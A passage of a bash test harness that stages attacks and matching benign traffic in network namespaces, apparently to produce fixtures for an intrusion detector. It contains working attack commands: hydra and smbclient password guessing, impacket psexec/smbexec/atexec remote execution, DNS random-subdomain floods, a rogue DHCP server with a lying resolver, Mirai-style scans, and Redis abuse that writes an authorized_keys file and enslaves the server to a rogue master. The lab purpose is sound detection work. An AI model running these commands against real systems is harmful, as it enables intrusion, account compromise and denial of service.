	inns nas "$py" -c "import sys; sys.path.insert(0,'$tmp'); from lldplab import *; run('00:1b:d4:00:00:18', b'\x00\x1b\xd4\x00\x00\x02', b'core-sw1', 10, port=b'Gi1/0/23')" & local b=$!
	inns pc "$py" -c "import sys; sys.path.insert(0,'$tmp'); from lldplab import *; run('00:26:0b:11:22:01', b'\x00\x26\x0b\x11\x22\x00', b'Switch', 10, '10.88.8.3')" & local c=$!
	inns pc2 "$py" -c "import sys; sys.path.insert(0,'$tmp'); from lldplab import *; run('70:10:6f:aa:bb:01', b'\x70\x10\x6f\xaa\xbb\x00', b'Switch', 10, '10.88.8.4')" || true
	wait $a $b $c || true
	lldp_unlab
}
# Session 38 (det38a): password guessing spread over ten hosts (review 37a
# slow_brute_distributed_smb): h100-h109 each try administrator's password
# on the NAS's Samba five times, 8 s apart (under 20 a minute each): 50
# STATUS_LOGON_FAILURE for one account from ten clients. One brute_force,
# the NAS the target, the ten hosts listed.
smb_wait() { local i; for i in $(seq 50); do inns nas ss -Hltn '( sport = :445 )' | grep -q . && break; sleep 0.2; done; }
smb_stop() { local p; for p in $(ip netns pids "$P-nas"); do grep -qa smbd /proc/$p/cmdline 2>/dev/null && kill "$p"; done; true; }
scn_smb_guessing_distributed_smbclient() {
	start_smbd; smb_wait
	local r i bp=()
	for r in 1 2 3 4 5; do
		for i in $(seq 100 109); do
			(sleep "0.$((i - 100))"; inns "h$i" timeout 15 smbclient -L "//$nas" -s "$tmp/smb.conf" -U "LAB/administrator%Pw${r}x$i" -m SMB3 >/dev/null 2>&1) & bp+=($!)
		done
		sleep 8
	done
	wait "${bp[@]}" || true
	smb_stop
}
# The same over SSH (review 37a slow_brute_distributed): h100-h109 each run
# hydra -t 1 with one password against the NAS's OpenSSH four times, 15 s
# apart (two sessions a try, each ending in the authentication phase).
scn_ssh_guessing_distributed_hydra() {
	start_services
	local r i bp=()
	for r in 1 2 3 4; do
		for i in $(seq 100 109); do
			(sleep "0.$((i - 100))"; cd "$tmp" && inns "h$i" timeout 14 hydra -l admin -p "Pw${r}x$i" -t 1 -I "ssh://$nas" >/dev/null 2>&1) & bp+=($!)
		done
		sleep 15
	done
	wait "${bp[@]}" || true
	stop_services
}
# Benign: a Monday morning on the NAS: thirty users (h100-h129) each
# mistype their password once and log on at the second try (the share's
# user), and the backup server (pc2) retries a stale password every 5 s,
# twelve times (a single client under 20 a minute). No distributed
# guessing.
scn_benign_smb_mistypes_morning() {
	start_smbd; smb_wait
	local i bp=()
	for i in $(seq 100 129); do
		(sleep "$(( (i - 100) % 10 )).$((i % 7))"; inns "h$i" timeout 15 smbclient -L "//$nas" -s "$tmp/smb.conf" -U "LAB/user$i%Wrong$i" -m SMB3 >/dev/null 2>&1
			inns "h$i" timeout 15 smbclient "//$nas/data" -s "$tmp/smb.conf" -U 'root%Backup-2026' -m SMB3 -c ls >/dev/null 2>&1) & bp+=($!)
	done
	for i in $(seq 12); do inns pc2 timeout 15 smbclient "//$nas/data" -s "$tmp/smb.conf" -U 'LAB/backupsvc%Old-2025' -m SMB3 -c ls >/dev/null 2>&1; sleep 5; done
	wait "${bp[@]}" || true
	smb_stop
}
# Remote service creation over SMB (review 37a lateral_exec, Samba with
# SMB encryption off so the RPC is in clear as on an unencrypting Windows
# server): impacket smbexec.py (svcctl OpenSCManagerW, CreateServiceW,
# StartServiceW on \svcctl), psexec.py (uploads to ADMIN$, then the same)
# and atexec.py (\atsvc, ITaskSchedulerService SchRpcRegisterTask) from .66
# against the NAS with root's password. Samba refuses the creation; the
# requests are the attack.
start_smbd_exec() {
	start_smbd; smb_wait; smb_stop; sleep 1
	mkdir -p "$tmp/admin"; chmod 777 "$tmp/admin"
	sed -i 's/^server min protocol = SMB2$/server min protocol = SMB2\nserver smb encrypt = off/' "$tmp/smb.conf"
	printf '[ADMIN$]\npath = %s\nread only = no\n' "$tmp/admin" >>"$tmp/smb.conf"
	spawn nas smbd -F -s "$tmp/smb.conf"; smb_wait
}
scn_smb_remote_exec_impacket() {
	start_smbd_exec
	local ex=/usr/share/doc/python3-impacket/examples
	echo whoami | inns evil timeout 30 "$py" $ex/smbexec.py "root:Backup-2026@$nas" || true
	inns evil timeout 30 "$py" $ex/psexec.py "root:Backup-2026@$nas" whoami </dev/null || true
	inns evil timeout 30 "$py" $ex/atexec.py "root:Backup-2026@$nas" whoami </dev/null || true
	smb_stop
}
# Benign: an administrator's workstation (pc2) lists the NAS's services and
# asks one's status with Samba's net rpc (svcctl OpenSCManagerW,
# EnumServicesStatusW, QueryServiceStatus): management, no service created.
scn_benign_net_rpc_service_list() {
	start_smbd_exec
	inns pc2 timeout 30 net rpc service list -S "$nas" -U 'root%Backup-2026' -s "$tmp/smb.conf" || true
	inns pc2 timeout 30 net rpc service status smbd -S "$nas" -U 'root%Backup-2026' -s "$tmp/smb.conf" || true
	smb_stop
}
# Session 38 (det38b, issue 14): random-subdomain floods below a flood's
# rates. The NAS's dnsmasq holds victim.lab (--local: NXDOMAIN for any name
# not in it); dnsperf reads a file of fresh random 12-character labels
# under it. Slow: the attacker alone at 250 queries a second for 8 s.
# Distributed: ten hosts (.100-.109), each its own labels, 60 a second
# each (600 a second in all) for 8 s.
wt_labels() { # wt_labels N FILE: N random labels under victim.lab, one A query a line
	"$py" -c 'import random, string, sys
abc = string.ascii_lowercase + string.digits
for _ in range(int(sys.argv[1])): print("".join(random.choice(abc) for _ in range(12)) + ".victim.lab A")' "$1" >"$2"
	chmod 644 "$2"
}
wt_nas() { spawn nas dnsmasq -k --no-resolv --no-hosts --port=53 --listen-address=$nas --bind-interfaces --local=/victim.lab/ --local=/example.org/ --local=/example.net/ --local=/corp.lab/ --local=/in-addr.arpa/; sleep 1; }
wt_nas_stop() { local p; for p in $(ip netns pids "$P-nas"); do grep -qa dnsmasq /proc/$p/cmdline 2>/dev/null && kill "$p"; done; }
scn_dns_water_torture_dnsperf_slow() {
	wt_nas
	wt_labels 3000 "$tmp/wt.txt"
	inns evil dnsperf -s "$nas" -d "$tmp/wt.txt" -Q 250 -l 8 -c 1 || true
	wt_nas_stop
}
scn_dns_water_torture_dnsperf_distributed() {
	wt_nas
	local i w=()
	for i in $(seq 100 109); do
		wt_labels 600 "$tmp/wt$i.txt"
		(inns "h$i" dnsperf -s "$nas" -d "$tmp/wt$i.txt" -Q 60 -l 8 -c 1 >/dev/null 2>&1 || true) & w+=($!)
	done
	wait "${w[@]}"
	wt_nas_stop
}
# Benign: what else asks many fresh names answered NXDOMAIN. A monitoring
# tool resolving a /24 (PTR under in-addr.arpa), a mail gateway's DNSBL
# lookups (reversed addresses under zen.example.org) and domain-list
# lookups (domain.com.dbl.example.org), an antivirus' reputation lookups
# (an MD5 digest under avqs.example.net), and a search suffix appended to
# names that exist elsewhere (www.siteN.com.corp.lab), 1,300 queries at
# 120 a second from the PC (dnsperf).
scn_benign_dns_nxdomain_lookups() {
	wt_nas
	"$py" -c 'import hashlib, random
lines = ["%d.8.88.10.in-addr.arpa PTR" % i for i in range(1, 255)]
lines += ["%d.%d.%d.%d.zen.example.org A" % tuple(random.randrange(1, 255) for _ in range(4)) for _ in range(300)]
lines += ["shop%d.com.dbl.example.org A" % i for i in range(150)]
lines += [hashlib.md5(str(i).encode()).hexdigest() + ".avqs.example.net A" for i in range(300)]
lines += ["www.site%d.com.corp.lab A" % i for i in range(300)]
random.shuffle(lines)
print("\n".join(lines))' >"$tmp/nx.txt"
	chmod 644 "$tmp/nx.txt"
	inns pc dnsperf -s "$nas" -d "$tmp/nx.txt" -n 1 -Q 120 -c 1 || true
	wt_nas_stop
}
# An ICS hunt (review 37a scan_ics): nmap's Modbus/TCP port on a /27,
# then BACnet's UDP port, each host probed once per port after the ARP
# sweep. And remote access (scan_rdp_vnc): RDP and VNC on the /27.
scn_nmap_modbus_bacnet_subnet() {
	inns evil nmap -Pn -n -T4 -p502 "$NET.96/27" || true
	inns evil nmap -sU -Pn -n -T4 -p47808 "$NET.96/27" || true
}
scn_nmap_rdp_vnc_subnet() { inns evil nmap -Pn -n -T4 -p3389,5900 "$NET.96/27"; }
# Benign-ish (review 37b dhcp_pair): two split-scope DHCP servers (dnsmasq
# on h128 and h129, VMware MACs: Windows servers' VMs) beside the
# gateway's own, both handing out the gateway as router and the NAS as DNS
# server, disjoint pools (.210-.229, .230-.249), 8 h leases, domain
# corp.lab; ten devices (busybox udhcpc) join twice. Two DHCP services with
# different DNS: one Medium, no rogue.
split_boot() { # split_boot I: client I boots (busybox's udhcpc: no udhcpc of its own here), then pings the gateway
	local ns=$P-r$1
	ip netns pids "$ns" | xargs -r kill 2>/dev/null || true
	ip -n "$ns" -4 addr flush dev eth0
	ip netns exec "$ns" busybox udhcpc -i eth0 -f -s "$tmp/udhcpc.sh" -t 6 -T 1 -A 1 >/dev/null 2>&1 & pids+=($!)
	local k
	for k in $(seq 100); do ip -n "$ns" -4 -o addr show dev eth0 | grep -q inet && break; sleep 0.1; done
	ip netns exec "$ns" ping -q -c 2 -i 0.5 "$NET.1" >/dev/null 2>&1 || true
}
scn_dhcp_split_scope_pair_beside_gateway() {
	local i w=() d
	for d in 128:210:229 129:230:249; do
		IFS=: read -r h a b <<<"$d"
		spawn "h$h" dnsmasq -k --no-resolv --no-hosts --port=0 --interface=eth0 --bind-interfaces --dhcp-range=$NET.$a,$NET.$b,8h \
			--dhcp-option=3,$NET.1 --dhcp-option=6,$nas --dhcp-option=15,corp.lab --dhcp-leasefile="$tmp/split$h.leases"
	done
	sleep 1
	bare_clients r 10 00:38 3c:52:82
	for i in $(seq 1 10); do split_boot "$i" & w+=($!); done
	wait "${w[@]}"; w=()
	sleep 3
	for i in $(seq 1 10); do (sleep "0.$((RANDOM % 10))"; split_boot "$i") & w+=($!); done
	wait "${w[@]}"
	for h in 128 129; do for p in $(ip netns pids "$P-h$h"); do grep -qa dnsmasq /proc/$p/cmdline 2>/dev/null && kill "$p"; done; done
	for i in $(seq 1 10); do ip netns pids "$P-r$i" | xargs -r kill 2>/dev/null; ip netns del "$P-r$i"; done
}
# Session 38 (det39b, issue 14): the same remote execution over DCE/RPC
# straight on TCP (ncacn_ip_tcp). Debian serves none of svcctl,
# ITaskSchedulerService, ATSvc over TCP (Samba's svcctl is ncacn_np only):
# the NAS runs stage-rpcsrv.py (accepts every bind, answers zeros) on 135 and
# 49670; every request is impacket's own (stage-rpccli.py).
rpc_srv() { spawn nas "$py" "$(dirname "$0")/stage-rpcsrv.py" "$nas" 135 49670; sleep 1; }
rpc_srv_stop() { local p; for p in $(ip netns pids "$P-nas"); do grep -qa stage-rpcsrv /proc/$p/cmdline 2>/dev/null && kill "$p"; done; }
scn_rpc_tcp_remote_exec_impacket() {
	rpc_srv
	inns evil timeout 30 "$py" "$(dirname "$0")/stage-rpccli.py" "$nas" 49670 exec || true
	rpc_srv_stop
}
# Benign: an administrator's PC (pc2) asks the endpoint mapper for three
# interfaces, binds svcctl over TCP and lists the services: nothing created.
scn_benign_rpc_tcp_service_list() {
	rpc_srv
	inns pc2 timeout 30 "$py" "$(dirname "$0")/stage-rpccli.py" "$nas" 49670 list || true
	rpc_srv_stop
}
# Session 38 (det39b, issue 14): a building-management workstation (pc2)
# polling 20 BACnet/IP controllers (h100-h119, stage-bacnet.py ctl:
# ReadProperty answered with a ComplexACK, Who-Is with I-Am): one Who-Is
# broadcast, then ReadProperty of each controller's present-value every
# 20 s for 3 minutes (nine rounds), from an ephemeral port (a BACnet
# client library's default) or from 47808 (a supervisor's own port).
bms_ctls() { local i; for i in $(seq 100 "${BMS_LAST:-119}"); do spawn "h$i" "$py" "$(dirname "$0")/stage-bacnet.py" ctl "$NET.$i" "$((1000 + i))"; done; sleep 1; }
bms_ctls_stop() { local i p; for i in $(seq 100 "${BMS_LAST:-119}"); do for p in $(ip netns pids "$P-h$i"); do grep -qa stage-bacnet /proc/$p/cmdline 2>/dev/null && kill "$p"; done; done; }
bms_poll() { local i a=(); for i in $(seq 100 "${BMS_LAST:-119}"); do a+=("$NET.$i"); done; inns pc2 "$py" "$(dirname "$0")/stage-bacnet.py" bms "$1" 9 20 "${a[@]}" || true; }
scn_benign_bms_bacnet_poll() { bms_ctls; bms_poll 0; bms_ctls_stop; }
scn_benign_bms_bacnet_poll_47808() { bms_ctls; bms_poll 47808; bms_ctls_stop; }
# The same with 30 controllers (h100-h129): past the sweep threshold.
scn_benign_bms_bacnet_poll_30() { BMS_LAST=129; bms_ctls; bms_poll 0; bms_ctls_stop; }
# Session 38 (det39b): a service hunt over a range of live hosts (.96-.131:
# the 30 quiet hosts and 6 empty addresses): nmap's ARP discovery, then
# SYNs to Modbus/TCP and RDP, refused (RST) by every live host.
scn_nmap_hunt_live_range() {
	inns evil nmap -n -T4 -p 502,3389 "$NET.96-131" || true
}
# Review 39 (fix39a): what glibc's resolver (getent, 8 at a time) asks
# NXDOMAIN under one stem in ordinary work, against the NAS's dnsmasq
# (corp.lab, victim.lab, example.org its own: NXDOMAIN; any name under
# vercel.app answered). dns39_resolv NS SEARCH-LINE: the host's resolv.conf.
dns39_nas() {
	spawn nas dnsmasq -k --no-resolv --no-hosts --port=53 --listen-address=$nas --bind-interfaces --local=/corp.lab/ \
		--local=/victim.lab/ --local=/example.org/ --address=/vercel.app/$NET.200
	sleep 1
}
dns39_resolv() {
	mkdir -p "/etc/netns/$P-$1"
	printf '%s\n' "nameserver $nas" "$2" "options ndots:5 attempts:1 timeout:1" >"/etc/netns/$P-$1/resolv.conf"
}
dns39_done() { wt_nas_stop; echo "nameserver $NET.1" >"/etc/netns/$P-pc/resolv.conf"; rm -rf "/etc/netns/$P-pc2" "/etc/netns/$P-evil"; }
# An RMM job's inventory of a stale directory list: 400 computer names,
# pc0001.corp.lab to pc0400.corp.lab, all NXDOMAIN. Nothing.
scn_benign_dns_inventory_getent() {
	dns39_nas; dns39_resolv pc ""
	seq -f 'pc%04g.corp.lab' 1 400 >"$tmp/inv.txt"
	inns pc xargs -P 8 -n 10 sh -c 'for n; do getent ahostsv4 "$n"; done' x <"$tmp/inv.txt" >/dev/null || true
	dns39_done
}
# A host with "search corp.lab" and ndots:5 (a Kubernetes node's) checking
# 400 sites under vercel.app: glibc asks NAME.vercel.app.corp.lab first
# (NXDOMAIN), then NAME.vercel.app (answered). Nothing.
scn_benign_dns_search_ndots_getent() {
	dns39_nas; dns39_resolv pc "search corp.lab"
	"$py" -c 'import random
w = ["acme", "shop", "blog", "docs", "portal", "store", "app", "api", "status", "web"]
for _ in range(400): print("%s-%06x.vercel.app" % (random.choice(w), random.getrandbits(24)))' >"$tmp/sites.txt"
	inns pc xargs -P 8 -n 5 sh -c 'for n; do getent ahostsv4 "$n"; done' x <"$tmp/sites.txt" >/dev/null || true
	dns39_done
}
# A mail gateway (pc2) in a spam wave: each message's link domain, fresh and
# under one newer generic top-level domain (.top: a wave's domains share one),
# checked against a domain list (NAME.TLD.dbl.example.org), the sender's
# address against an address list (zen.example.org); 400 messages, all
# NXDOMAIN (not listed). Nothing.
scn_benign_dns_dbl_gtld_getent() {
	dns39_nas; dns39_resolv pc2 ""
	"$py" -c 'import random, string
for k in range(400):
    print("%s%d.%s.dbl.example.org" % ("".join(random.choice(string.ascii_lowercase) for _ in range(7)), k, "top"))
    print("%d.%d.51.198.zen.example.org" % (k % 250, k // 250 + 10))' >"$tmp/bl.txt"
	inns pc2 xargs -P 8 -n 4 sh -c 'for n; do getent ahostsv4 "$n"; done' x <"$tmp/bl.txt" >/dev/null || true
	dns39_done
}
# Attack: random single labels from a host whose search domain is the
# victim's ("search victim.lab", ndots:5): glibc asks LABEL.victim.lab
# (NXDOMAIN), then LABEL alone; 1,200 labels, 16 at a time. A flood by evil
# under victim.lab (the bare label is no re-asked name).
scn_dns_water_torture_search_domain_getent() {
	dns39_nas; dns39_resolv evil "search victim.lab"
	"$py" -c 'import random, string
abc = string.ascii_lowercase + string.digits
for _ in range(1200): print("".join(random.choice(abc) for _ in range(10)))' >"$tmp/wtl.txt"
	inns evil xargs -P 16 -n 10 sh -c 'for n; do getent ahostsv4 "$n"; done' x <"$tmp/wtl.txt" >/dev/null || true
	dns39_done
}
# Attack: random numbers under one template (host + 8 random digits under
# victim.lab), dnsperf at 250 a second for 8 s: spread far wider than an
# inventory's counter. A flood by evil.
scn_dns_water_torture_numbered_dnsperf() {
	wt_nas
	"$py" -c 'import random
for _ in range(3000): print("host%08d.victim.lab A" % random.randrange(10**8))' >"$tmp/wtn.txt"
	chmod 644 "$tmp/wtn.txt"
	inns evil dnsperf -s "$nas" -d "$tmp/wtn.txt" -Q 250 -l 8 -c 1 || true
	wt_nas_stop
}
# Session 39 (det40, issue 14): a rogue DHCP server (dnsmasq on evil,
# --no-ping so it answers first) keeping the real gateway as router and
# handing out a resolver at a third address it controls (.67, dnsmasq
# answering every name with evil's address); four victims (busybox udhcpc)
# take its lease, ask names of that resolver, renew (SIGUSR1) and ask again:
# the resolver is heard answering only after the rogue's first offer.
r40_done() { # r40_done N HOST...: the clients and the named hosts' dnsmasq gone
	local i h p n=$1; shift
	for h in "$@"; do for p in $(ip netns pids "$P-$h"); do grep -qa dnsmasq /proc/$p/cmdline 2>/dev/null && kill "$p"; done; done
	for i in $(seq 1 "$n"); do ip netns pids "$P-r$i" | xargs -r kill 2>/dev/null; ip netns del "$P-r$i"; done
}
r40_ask() { # r40_ask I RESOLVER: client I asks three names
	local n
	for n in intranet.corp.lab mail.corp.lab www.example.org; do ip netns exec "$P-r$1" dig +short +tries=1 +time=2 @"$2" "$n" >/dev/null 2>&1 || true; done
}
r40_victim() { # r40_victim I RESOLVER: client I leases (udhcpc), asks, renews, asks again
	local ns=$P-r$1 k u
	ip netns exec "$ns" busybox udhcpc -i eth0 -f -s "$tmp/udhcpc.sh" -t 6 -T 1 -A 1 >/dev/null 2>&1 & u=$!; pids+=($u)
	for k in $(seq 100); do ip -n "$ns" -4 -o addr show dev eth0 | grep -q inet && break; sleep 0.1; done
	r40_ask "$1" "$2"
	sleep 3
	kill -USR1 "$u" 2>/dev/null || true
	sleep 2
	r40_ask "$1" "$2"
}
scn_rogue_dhcp_own_resolver_third_address() {
	local i w=()
	host evil67 b8:27:eb:00:00:67 67
	spawn evil67 dnsmasq -k --no-resolv --no-hosts --interface=eth0 --bind-interfaces --address=/#/$NET.66
	spawn evil dnsmasq -k --no-resolv --no-hosts --port=0 --interface=eth0 --bind-interfaces --no-ping \
		--dhcp-range=$NET.210,$NET.240,2m --dhcp-option=3,$NET.1 --dhcp-option=6,$NET.67 --dhcp-leasefile="$tmp/evil40.leases"
	bare_clients r 4 00:40 3c:52:82
	sleep 1
	for i in 1 2 3 4; do r40_victim "$i" "$NET.67" & w+=($!); done
	wait "${w[@]}"
	r40_done 4 evil evil67
	ip netns pids "$P-evil67" | xargs -r kill 2>/dev/null; ip netns del "$P-evil67"
}
# Benign: the office resolver (dnsmasq on the NAS) answers the PC before an
# old router's DHCP server left on (h125) is heard handing out the gateway
# as router and that resolver as DNS server; four clients take its lease,
# ask the NAS, renew and ask again. A second service (Medium), not a rogue.
scn_dhcp_second_service_office_resolver() {
	local i w=()
	spawn nas dnsmasq -k --no-resolv --no-hosts --interface=eth0 --bind-interfaces --address=/corp.lab/$NET.30 --address=/example.org/$NET.30
	sleep 1
	inns pc dig +short @"$nas" intranet.corp.lab >/dev/null 2>&1 || true
	inns pc2 dig +short @"$nas" www.example.org >/dev/null 2>&1 || true
	spawn h125 dnsmasq -k --no-resolv --no-hosts --port=0 --interface=eth0 --bind-interfaces --no-ping \
		--dhcp-range=$NET.210,$NET.240,2m --dhcp-option=3,$NET.1 --dhcp-option=6,$nas --dhcp-leasefile="$tmp/h125b.leases"
	bare_clients r 4 00:40 3c:52:82
	sleep 1
	for i in 1 2 3 4; do r40_victim "$i" "$nas" & w+=($!); done
	wait "${w[@]}"
	r40_done 4 h125 nas
}
# Session 39 (det40, review 38 dnsperf): DNS query load on the NAS's
# dnsmasq (wt_nas) of ordinary names that resolve. Attack: evil's dnsperf
# at 2,500 queries a second from 50 sockets for 6 s (over the threshold's
# rate: a flood). Benign: six hosts each running dnsperf at 25 a second
# from 20 sockets for 25 s (~150 a second, under 2,000 in 10 s, every
# query a flow of its own: a busy office resolver's load), a third of the
# names under a zone whose server is down, unanswered.
dns40_names() {
	local n
	for n in www.example.org mail.corp.lab intranet.corp.lab files.corp.lab www.example.net cdn.example.org \
		api.example.net login.corp.lab print.corp.lab wiki.corp.lab; do echo "$n A"; echo "$n AAAA"; done >"$tmp/dns40.txt"
	chmod 644 "$tmp/dns40.txt"
}
scn_dns_query_flood_ordinary_names_dnsperf() {
	wt_nas; dns40_names
	inns evil dnsperf -s "$nas" -d "$tmp/dns40.txt" -Q 2500 -c 50 -l 6 || true
	wt_nas_stop
}
scn_benign_dns_office_load_dnsperf() {
	local h w=() n
	# The resolver forwards branch.lab to a server that is down (.99): four
	# names in ten go unanswered, as a starved or cut-off resolver leaves them.
	spawn nas dnsmasq -k --no-resolv --no-hosts --port=53 --listen-address=$nas --bind-interfaces --local=/example.org/ \
		--local=/example.net/ --local=/corp.lab/ --server=/branch.lab/$NET.99 --dns-forward-max=1000; sleep 1
	dns40_names
	for n in a b c d e f g h; do echo "host-$n.branch.lab A"; done >>"$tmp/dns40.txt"
	for h in pc pc2 h100 h101 h102 h103; do inns "$h" dnsperf -s "$nas" -d "$tmp/dns40.txt" -Q 25 -c 20 -l 25 >/dev/null 2>&1 & w+=($!); done
	wait "${w[@]}"
	wt_nas_stop
}

# Session 40: the "Internet" as a namespace behind the gateway (198.18.0.0/30
# between them, RFC 2544's range) holding every address of the three
# documentation ranges (192.0.2.0/24, 198.51.100.0/24, 203.0.113.0/24, RFC
# 5737: no real address) as its own (local routes): closed ports answer
# RST, port 443 answers HTTP.
inet_up() {
	ip netns add "$P-inet"
	ip -n "$P-gw" link add eth1 type veth peer name eth0 netns "$P-inet"
	ip -n "$P-gw" addr add 198.18.0.1/30 dev eth1
	ip -n "$P-gw" link set eth1 up
	ip -n "$P-inet" link set lo up
	ip -n "$P-inet" addr add 198.18.0.2/30 dev eth0
	ip -n "$P-inet" link set eth0 up
	ip -n "$P-inet" route add default via 198.18.0.1
	for r in 192.0.2.0/24 198.51.100.0/24 203.0.113.0/24; do
		ip -n "$P-inet" route add local "$r" dev lo
		ip -n "$P-gw" route add "$r" via 198.18.0.2
	done
	inns gw sysctl -qw net.ipv4.ip_forward=1
}
inet_down() { inns gw sysctl -qw net.ipv4.ip_forward=0; ip netns pids "$P-inet" | xargs -r kill; ip netns del "$P-inet"; }
# A Mirai-infected camera on the LAN scanning the Internet (scanner.c's
# shape: SYNs at ~200 a second to random addresses, port 23 and 2323 one
# time in ten, the target's address as sequence number, random source port,
# IP ID and window), 3 s: host_sweep Critical, an infected device.
scn_mirai_scanning_internet_scapy() {
	inet_up
	scapy evil 'import random, ipaddress
nets = ["192.0.2.", "198.51.100.", "203.0.113."]
ps = []
for i in range(600):
    d = random.choice(nets) + str(random.randint(1, 254))
    ps.append(Ether(src=mac, dst="00:1a:a1:00:00:01")/IP(src="'$NET.66'", dst=d, id=random.randint(0, 65535))/TCP(sport=random.randint(1024, 65535), dport=2323 if random.randint(0, 9) == 0 else 23, flags="S", seq=int(ipaddress.IPv4Address(d)), window=random.randint(1024, 65535)))
sendp(ps, iface="eth0", inter=0.005)'
	sleep 1
	inet_down
}
# An office's outbound connections: the PC opens 300 HTTPS-port connections
# to as many Internet addresses (the kernel's sequence numbers) and reads
# each answer: quiet.
scn_benign_office_outbound_internet() {
	inet_up
	cat >"$tmp/web443.py" <<'PYEOF'
import socket, threading
s = socket.socket(); s.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
s.bind(("0.0.0.0", 443)); s.listen(256)
def talk(c):
    try:
        c.recv(4096); c.sendall(b"HTTP/1.0 200 OK\r\nContent-Length: 500\r\n\r\n" + b"x" * 500)
    finally:
        c.close()
while True:
    c, _ = s.accept(); threading.Thread(target=talk, args=(c,), daemon=True).start()
PYEOF
	spawn inet "$py" "$tmp/web443.py"
	sleep 1
	inns pc "$py" -c 'import socket, time
for i in range(300):
    d = ["192.0.2.", "198.51.100.", "203.0.113."][i % 3] + str(1 + i // 3 * 2 % 254)
    try:
        c = socket.create_connection((d, 443), timeout=2); c.sendall(b"GET / HTTP/1.0\r\n\r\n"); c.recv(4096); c.close()
    except OSError:
        pass
    time.sleep(0.01)'
	inet_down
}
# Session 40 (review 41 P8): ab without keep-alive for longer than the flood
# window: every SYN's handshake completes and carries a GET, the flood
# raised at the window's restart (an HTTP request flood, not a SYN flood).
# A 20 ms delay on evil's link keeps it near 150 requests a second (a small
# fixture; SNAPLEN=160 keeps each request's first bytes).
scn_ab_http_flood() {
	inns evil tc qdisc add dev eth0 root netem delay 20ms
	inns evil timeout 20 ab -q -r -t 14 -n 1000000 -c 10 "http://$nas:8080/" 2>&1 | grep -E 'Complete|Failed|Requests per' || true
	inns evil tc qdisc del dev eth0 root
}
# Session 40 (review 41 P2): socket tools sweeping the /24: the kernel's ARP
# requests are the probes to silent addresses, the UDP datagrams go to the
# hosts that answered (svmap: SIP OPTIONS to 5060; nbtscan: NBSTAT to 137).
scn_svmap_sweep() { inns evil timeout 60 svmap "$NET.0/24" 2>&1 | tail -3 || true; }
scn_nbtscan_sweep() { inns evil timeout 60 nbtscan -r "$NET.0/24" 2>&1 | tail -3 || true; }
# Session 40 (review 41 redis_abuse): redis-server without a password on
# the NAS; the attacker writes a key file with CONFIG SET dir/dbfilename +
# SAVE, then makes the NAS a replica of its own rogue master (redis-server
# on .66:6380), which the NAS syncs from (PSYNC). Needs redis-server and
# redis-tools (redis-cli, redis-benchmark).
redis_up() { # host port dir [args]
	local h=$1 port=$2 d=$3; shift 3; mkdir -p "$d"
	spawn "$h" redis-server --bind "$(inns "$h" ip -4 -o addr show eth0 | awk '{print $4}' | cut -d/ -f1)" --protected-mode no \
		--enable-protected-configs yes --port "$port" --save '' --dir "$d" --daemonize no --appendonly no "$@"
	sleep 1
}
redis_down() { local h p; for h in "$@"; do for p in $(ip netns pids "$P-$h"); do grep -qa redis-server "/proc/$p/cmdline" && kill "$p"; done; done; sleep 0.5; }
scn_redis_abuse_config_slaveof_redis_cli() {
	local c evil=$NET.66
	redis_up nas 6379 "$tmp/r1"; redis_up evil 6380 "$tmp/r2"
	for c in "INFO server" "CONFIG SET dir $tmp/r1" "CONFIG SET dbfilename authorized_keys" "SET x ssh-ed25519_AAAAC3NzaC1lZDI1NTE5AAAAIBadKey_evil@kali" "SAVE" "SLAVEOF $evil 6380"; do
		inns evil redis-cli -h "$nas" $c | head -2
	done
	sleep 4; inns evil redis-cli -h "$nas" SLAVEOF NO ONE
	redis_down nas evil
}
# The same rogue master by inline commands (as exploit scripts send them).
scn_redis_rogue_master_replicaof_inline_nc() {
	redis_up nas 6379 "$tmp/r1"; redis_up evil 6380 "$tmp/r2"
	printf 'PING\r\nREPLICAOF %s 6380\r\n' "$NET.66" | inns evil timeout 2 nc "$nas" 6379 || true
	sleep 4; printf 'REPLICAOF NO ONE\r\n' | inns evil timeout 2 nc "$nas" 6379 || true
	redis_down nas evil
}
scn_benign_redis_cli_get_set_benchmark() {
	local c
	redis_up nas 6379 "$tmp/r1"
	for c in "PING" "INFO" "SET session:42 alice" "GET session:42" "INCR hits" "DBSIZE" "CONFIG GET maxmemory" "DEL session:42"; do
		inns pc redis-cli -h "$nas" $c | head -2
	done
	inns pc redis-benchmark -h "$nas" -n 500 -c 5 -q -t get,set,lpush
	redis_down nas
}
# A replica configured at start (pc2 as the second server): its own PSYNC.
scn_benign_redis_replica_pair() {
	redis_up nas 6379 "$tmp/r1"; redis_up pc2 6379 "$tmp/r3" --replicaof "$nas" 6379
	sleep 3
	inns pc redis-cli -h "$nas" SET k v; sleep 1; inns pc redis-cli -h "$NET.11" GET k
	sleep 2
	redis_down nas pc2
}
# Session 41 fix42c: an anonymous LDAP directory dump (slapd allowing anonymous
# read, 40 users with userPassword: an old Linux directory or a NAS's), an
# anonymous FTP upload (vsftpd with anon_upload_enable), SNMPv3 user-name
# enumeration and password guessing (net-snmp's snmpd with one v3 user), and
# PJL file-system abuse on a printer's port 9100 (PRET's commands); with the
# benign shapes of each: rootDSE reads and an address-book lookup, an
# anonymous download, a monitoring server's SNMPv3 polls, print jobs.
slapd_up() {
	local S=/etc/ldap/schema
	mkdir -p "$tmp/ldap/db"
	printf 'include %s/core.schema\ninclude %s/cosine.schema\ninclude %s/nis.schema\ninclude %s/inetorgperson.schema\npidfile %s/ldap/pid\nmodulepath /usr/lib/ldap\nmoduleload back_mdb\ndatabase mdb\nsuffix "dc=lab,dc=lan"\nrootdn "cn=admin,dc=lab,dc=lan"\nrootpw secret\ndirectory %s/ldap/db\naccess to * by * read\n' $S $S $S $S "$tmp" "$tmp" >"$tmp/ldap/slapd.conf"
	{
		printf 'dn: dc=lab,dc=lan\nobjectClass: dcObject\nobjectClass: organization\no: Lab\ndc: lab\n\ndn: ou=people,dc=lab,dc=lan\nobjectClass: organizationalUnit\nou: people\n\n'
		for i in $(seq 1 40); do
			printf 'dn: uid=user%d,ou=people,dc=lab,dc=lan\nobjectClass: inetOrgPerson\nobjectClass: posixAccount\ncn: User %d\nsn: U%d\nuid: user%d\nuidNumber: %d\ngidNumber: 100\nhomeDirectory: /home/user%d\nmail: user%d@lab.lan\nuserPassword: {SSHA}abcdefghijklmnopqrstuvwxyz0123%d\n\n' $i $i $i $i $((1000 + i)) $i $i $i
		done
	} >"$tmp/ldap/data.ldif"
	rm -rf "$tmp/ldap/db"/*; slapadd -f "$tmp/ldap/slapd.conf" -l "$tmp/ldap/data.ldif" >/dev/null 2>&1
